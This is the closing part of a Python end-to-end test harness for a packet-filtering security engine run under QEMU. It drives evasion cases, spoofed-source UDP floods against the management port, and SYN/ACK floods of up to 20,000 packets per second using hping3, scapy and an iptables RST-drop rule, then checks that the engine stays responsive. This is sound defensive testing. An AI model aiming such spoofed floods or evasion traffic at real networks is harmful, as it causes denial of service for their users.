        sub.join(60)
        st1 = env.topo.qemu.stats()
        out, _ = fl.communicate(timeout=seconds + 20)
        parts = out.split()
        sent, secs = (int(parts[0]), float(parts[1])) if len(parts) >= 2 and parts[0].isdigit() else (0, float(seconds))
        row = {'sources': sources, 'flood_pps_target': pps, 'flood_datagrams': sent, 'flood_seconds': secs,
               'flood_pps_measured': round(sent / secs) if secs else 0, 'pings_during': during,
               'pings_seconds': round(t1 - t0, 1), 'kernel_mgmt_delta': st1.get('mgmt', 0) - st0.get('mgmt', 0),
               'telemetry_rate': sub.rate, 'telemetry_seconds': sub.seconds}
        results['mgmt']['floods'].append(row)
        print('info [mgmt] %s sources: %d unauthenticated datagrams in %.1f s (%d/s), 10 pings took %.1f s' % (
            sources, sent, secs, row['flood_pps_measured'], t1 - t0), flush=True)
        check('mgmt', '%d unauthenticated datagrams/s at UDP %d from %s sources: 10/10 fresh secctl ping succeed'
              % (pps, MGMT_PORT, 'random spoofed' if sources == 'random' else 'one spoofed'), during == 10,
              succeeded=during, flood_pps_measured=row['flood_pps_measured'])
        check('mgmt', '%d unauthenticated datagrams/s from %s sources: the telemetry subscriber keeps >= 90%% of its rate'
              % (pps, 'random spoofed' if sources == 'random' else 'one spoofed'),
              sub.rate is not None and rate_before is not None and sub.rate >= 0.9 * rate_before,
              rate_per_s=sub.rate, rate_before_per_s=rate_before, seconds=sub.seconds, rc=sub.rc)


# =============================================================================================
class Env:
    pass


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument('elf', nargs='?')
    ap.add_argument('--cases', default=None, help='comma-separated subset of: %s, mgmt, flood' % ', '.join(c[0] for c in CASES))
    ap.add_argument('--results', default=None)
    ap.add_argument('--secctl', default=os.path.join(ROOT, 'build', 'host', 'apps', 'secctl', 'secctl'))
    ap.add_argument('--keep', action='store_true', help='keep the work directory (judge log)')
    ap.add_argument('--bootargs', default=BOOTARGS, help='kernel command line (default %(default)s; e.g. add syn_budget=N)')
    ap.add_argument('--list', action='store_true', help='list the cases and exit')
    ap.add_argument('--judge', metavar='LOG', help=argparse.SUPPRESS)
    ap.add_argument('--sender', action='store_true', help=argparse.SUPPRESS)
    ap.add_argument('--mgmt-flood', nargs=4, help=argparse.SUPPRESS)
    a = ap.parse_args()
    if a.judge:
        return judge_main(a.judge)
    if a.sender:
        return sender_main()
    if a.mgmt_flood:
        return mgmt_flood_main(float(a.mgmt_flood[0]), int(a.mgmt_flood[1]), a.mgmt_flood[2], a.mgmt_flood[3])
    full = os.environ.get('SECENGINE_E2E_FULL') == '1'
    all_names = [c[0] for c in CASES] + ['flood', 'mgmt']
    if a.list:
        for n, default, _ in CASES:
            print('%-14s %s' % (n, 'default' if default else 'full'))
        print('%-14s %s' % ('flood', 'default: SYN 2,500 pps 10 s; full: SYN and ACK at 2,500, 10,000, 20,000 pps'))
        print('%-14s %s' % ('mgmt', 'default'))
        return 0
    if a.cases:
        chosen = a.cases.split(',')
        bad = [c for c in chosen if c not in all_names]
        if bad:
            print('FAIL: unknown case(s) %s; cases: %s' % (bad, ', '.join(all_names)))
            return 2
    else:
        chosen = [n for n, default, _ in CASES if default or full] + ['flood', 'mgmt']
    rc = e2e_common.preflight('evasion e2e tests', ('hping3', 'curl', 'iptables', 'ip'))
    if rc is not None:
        return rc
    if not scapy_python():
        print('FAIL: python3-scapy missing (make deps installs it)')
        return 1
    if not a.elf:
        print('FAIL: no kernel image given')
        return 1
    if not os.path.exists(a.secctl) and ('blocked_port' in chosen or 'mgmt' in chosen):
        print('note: %s not built: blocked_port and mgmt skipped (build the host tree first)' % a.secctl)
        chosen = [c for c in chosen if c not in ('blocked_port', 'mgmt')]
    import e2e_topology
    results.update({'elf': a.elf, 'full': full, 'cases_run': chosen, 'bootargs': a.bootargs})
    env = Env()
    env.secctl, env.ports = a.secctl, Ports()

    def body(work):
        with e2e_topology.Topology(a.elf, None, a.bootargs, log_dir=work) as topo:
            env.topo = topo
            results['ready'] = topo.qemu.ready.group(0)
            print(results['ready'], flush=True)
            topo.client('iptables', '-A', 'OUTPUT', '-p', 'tcp', '--tcp-flags', 'RST', 'RST', '--sport',
                        '%d:%d' % CRAFTED_PORTS, '-j', 'DROP', check=True)
            env.judge = Judge(topo, work)
            server_mac = topo.server('cat', '/sys/class/net/se-tap1/address').stdout.strip()
            env.sender = Sender(topo, server_mac)
            try:
                for n, _, fn in CASES:
                    if n in chosen:
                        fn(env, n)
                if 'mgmt' in chosen:
                    case_mgmt(env, 'mgmt')
                if 'flood' in chosen:
                    rates = (2500, 10000, 20000) if full else (2500,)
                    kinds = ('SYN', 'ACK') if full else ('SYN',)
                    for kind in kinds:
                        for pps in rates:
                            flood(env, kind, pps, 10)
            finally:
                env.sender.close()
            results['final_stats'] = topo.qemu.stats()
    out = a.results or os.path.join(ROOT, 'build', 'evasion_results.json')
    return e2e_common.run(results, check, 'secengine-evasion-', body, out, a.keep)


if __name__ == '__main__':
    sys.exit(main())
